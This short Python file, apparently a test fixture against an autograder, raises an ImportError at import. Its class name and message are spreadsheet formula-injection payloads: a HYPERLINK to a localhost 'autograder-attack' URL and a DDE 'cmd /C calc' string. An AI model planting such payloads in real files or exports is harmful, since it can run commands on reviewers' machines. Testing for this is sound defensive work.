"""Fails at its import with text that a spreadsheet computes, in every place that could end in a table's cell."""
# file: model.py


class _Named(ImportError):
    pass


_Named.__name__ = '=HYPERLINK("http://127.0.0.1:47811/autograder-attack","Error")'


def _call():
    raise _Named("=cmd|'/C calc'!A0\n@SUM(1+9)*cmd\n+1+1\n-2+3\t=1+1,\"=1+1\"\r\n=1+1\n;=1+1")


_call()
